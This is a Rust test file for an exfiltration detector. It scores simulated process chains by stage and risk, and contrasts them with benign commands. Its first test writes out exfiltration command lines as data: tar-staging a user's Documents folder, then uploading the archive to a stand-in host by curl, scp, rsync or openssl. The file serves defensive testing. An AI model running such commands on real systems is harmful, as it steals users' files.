//! Whole stories through every detection: which stages they show.

use std::{collections::BTreeSet, net::SocketAddr, time::Duration};

use super::{Detectors, Observation, Scope, Signal, Stage, Subject, Volume, testing};
use crate::{
    config::classify::{FileClass, Rating},
    config::{self, Files, Rated},
    detect::{connection_creation, file_access, script_execution, traffic_flow, unnamed_destination},
    event::{FileKey, Open},
    process::Process,
};

fn detectors() -> Detectors {
    let none = Rated { globs: globset::GlobSet::empty(), risks: Vec::new() };
    let volume =
        config::Volume { ports: vec![21, 22, 53, 443], port_bytes: 5_000_000, any_bytes: 10_000_000 };
    Detectors {
        command: super::command_execution::CommandExecution::new(),
        script: script_execution::ScriptExecution::new(),
        file: file_access::FileAccess::new(&Files {
            staging: none.clone(),
            sensitive: none,
            document_extensions: Vec::new(),
            mass_count: 20,
            mass_window: Duration::from_mins(2),
            quiet: Vec::new(),
        }),
        connection: connection_creation::ConnectionCreation::new(&volume),
        unnamed: unnamed_destination::UnnamedDestination::new(),
        flow: traffic_flow::TrafficFlow::new(&volume),
        content: super::traffic_content::TrafficContent::new(),
        protocol: super::protocol::Protocol::new(),
        tunnel: super::name_tunnel::NameTunnel::new(),
        family: super::family::Family,
        duplication: super::duplication::Duplication::new(),
    }
}

/// What a process of the story does, in order.
enum Does {
    Exec,
    Reads(u32),
    Stages,
    Connects(u16),
    Sends(u64),
}

use Does::{Connects, Exec, Reads, Sends, Stages};

fn run(story: &[(&str, &[Does])]) -> Vec<Signal> {
    let mut detectors = detectors();
    let processes: Vec<Process> =
        (10..).zip(story).map(|(pid, (line, _))| testing::process(pid, line)).collect();
    let root = &processes[0];
    let mut out = Vec::new();
    for (process, (_, deeds)) in processes.iter().zip(story) {
        let parents = [root];
        let lineage = if process.key == root.key { &[][..] } else { &parents[..] };
        let subject = Subject { process, lineage, story: root.key };
        for deed in *deeds {
            perform(&mut detectors, &subject, deed, &mut out);
        }
    }
    out
}

fn perform(detectors: &mut Detectors, subject: &Subject<'_>, deed: &Does, out: &mut Vec<Signal>) {
    let open = |path: &str, ino: u32, write: bool| Open {
        file: FileKey { dev: 1, ino: u64::from(ino), generation: 0 },
        path: testing::path(path),
        size: 1_000,
        mode: 0o100_644,
        read: !write,
        write,
        ..Open::default()
    };
    match deed {
        Exec => detectors.observe(1, subject, &Observation::Exec, out),
        Reads(count) => {
            let class = FileClass { document: true, ..FileClass::default() };
            for ino in 0..*count {
                let open = open("/home/ann/Documents/a.pdf", ino, false);
                let observation = Observation::Open { open: &open, class: &class, labelled: false };
                detectors.observe(1, subject, &observation, out);
            }
        }
        Stages => {
            let staging = Some(Rating { pattern: "/var/tmp/**".to_owned(), risk: 8.0 });
            let class = FileClass { staging, ..FileClass::default() };
            let open = open("/var/tmp/a.tgz", 1_000_000, true);
            detectors.observe(
                1,
                subject,
                &Observation::Open { open: &open, class: &class, labelled: false },
                out,
            );
        }
        Connects(port) => {
            let remote = ([198, 51, 100, 7], *port).into();
            detectors.observe(
                1,
                subject,
                &Observation::Connect {
                    remote,
                    protocol: 6,
                    outside: true,
                    first_seen: false,
                    unnamed: false,
                },
                out,
            );
        }
        Sends(bytes) => {
            for scope in [Scope::Flow, Scope::Process, Scope::Lineage] {
                let volume = Volume {
                    scope,
                    remote: SocketAddr::from(([198, 51, 100, 7], 443)).into(),
                    protocol: 6,
                    bytes_out: *bytes,
                    bytes_in: 5_000,
                    bytes_out_ports: *bytes,
                    last: (*bytes, 1),
                };
                detectors.observe(1, subject, &Observation::Volume(volume), out);
            }
        }
    }
}

/// Highest risk of each stage.
fn stages(signals: &[Signal]) -> Vec<(Stage, f64)> {
    let shown: BTreeSet<Stage> = signals.iter().map(|signal| signal.stage).collect();
    let highest =
        |stage| signals.iter().filter(move |signal| signal.stage == stage).map(|signal| signal.risk);
    shown.into_iter().map(|stage| (stage, highest(stage).fold(0.0, f64::max))).collect()
}

#[test]
fn an_automated_exfiltration_shows_every_stage() {
    let movers: &[(&str, f64)] = &[
        ("curl --limit-rate 2M -T /var/tmp/a.tgz https://198.51.100.7/", 9.0),
        ("scp /var/tmp/a.tgz ann@198.51.100.7:", 9.0),
        ("rsync -a /var/tmp/a.tgz ann@198.51.100.7:in/", 9.0),
        ("| openssl s_client -quiet -connect 198.51.100.7:443", 8.0),
    ];
    for (mover, risk) in movers {
        let signals = run(&[
            ("bash /home/ann/backup.sh", &[Exec]),
            ("tar czf /var/tmp/a.tgz Documents", &[Exec, Stages, Reads(50)]),
            (mover, &[Exec, Connects(443), Sends(5_000_001), Sends(12_000_000)]),
        ]);
        let expected =
            [(Stage::Collection, 7.0), (Stage::Staging, 8.0), (Stage::Transfer, *risk), (Stage::Egress, 9.0)];
        assert_eq!(stages(&signals), expected, "{mover}");
    }
}

#[test]
fn honest_work_shows_little() {
    type Row = (&'static [(&'static str, &'static [Does])], &'static [(Stage, f64)]);
    let rows: &[Row] = &[
        (&[("curl https://198.51.100.7/", &[Exec, Connects(443), Sends(800)])], &[(Stage::Egress, 2.0)]),
        (
            &[("wget https://198.51.100.7/100MB", &[Exec, Connects(443), Sends(90_000)])],
            &[(Stage::Egress, 2.0)],
        ),
        (
            &[("bash -c backup", &[Exec]), ("tar czf /mnt/b.tgz .", &[Exec, Reads(5)])],
            &[(Stage::Staging, 8.0)],
        ),
        (
            &[
                ("git clone git@198.51.100.7:r.git", &[Exec]),
                ("| ssh git@198.51.100.7 git-upload-pack r.git", &[Exec, Connects(22), Sends(40_000)]),
            ],
            &[(Stage::Egress, 3.0)],
        ),
        (
            &[("apt-get update", &[Exec]), ("| http", &[Exec, Connects(80), Sends(20_000)])],
            &[(Stage::Egress, 1.0)],
        ),
        (&[("ls -l", &[Exec, Reads(1)])], &[]),
    ];
    for (story, expected) in rows {
        assert_eq!(stages(&run(story)), *expected, "{}", story[0].0);
    }
}
